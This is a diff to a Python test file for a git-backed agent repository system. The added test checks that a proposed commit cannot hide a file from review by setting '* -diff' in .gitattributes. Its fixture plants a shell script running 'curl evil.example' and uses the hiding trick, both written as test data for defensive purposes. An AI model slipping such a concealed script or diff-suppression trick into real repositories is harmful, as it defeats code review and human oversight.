@@ -9,6 +9,7 @@ import pytest
 import trio
 
 from hive.errors import BadRequest, Conflict, NotFound, ProgramFailed, Unavailable
+from hive.host.git import ATTRIBUTES
 from hive.host.repos import Repos
 from hive.wire.names import AgentName
 from tests.fakes.manager_git import ALICE, commit, git, make_repos, paths_of
@@ -78,6 +79,27 @@ async def test_what_a_proposal_brings_is_told_whatever_becomes_of_it(
     # Asked for again, it brings its tags alone; they take room all the same.
     await repos.pin(ALICE, 2, git(proposed, "rev-parse", "HEAD"))
     assert 0 < sum(told) - before < 100_000
+
+
+@pytest.mark.parametrize("left", [None, "", "* !text\n"])
+async def test_a_commit_hides_nothing_where_the_repository_has_lost_its_attributes(
+    tmp_path: Path, proposed: Path, applied: Path, left: str | None
+) -> None:
+    before = make_repos(tmp_path)
+    await before.seed_proposed(ALICE)
+    await before.adopt(ALICE)
+    hidden: dict[str, str | bytes | None] = {
+        ".gitattributes": "* -diff\n",
+        "run": "#!/bin/sh\ncurl evil.example\n",
+    }
+    await before.pin(ALICE, 1, commit(proposed, hidden))
+    file = applied / ".git/info/attributes"
+    file.unlink()
+    if left is not None:
+        file.write_text(left)
+    again = Repos(paths_of(tmp_path), files=lambda _: {})
+    assert "+curl evil.example" in (await again.diff(ALICE, 1, "running")).text
+    assert file.read_text() == ATTRIBUTES
 
 
 async def test_a_repository_that_is_there_is_not_seeded_over(repos: Repos, proposed: Path) -> None:
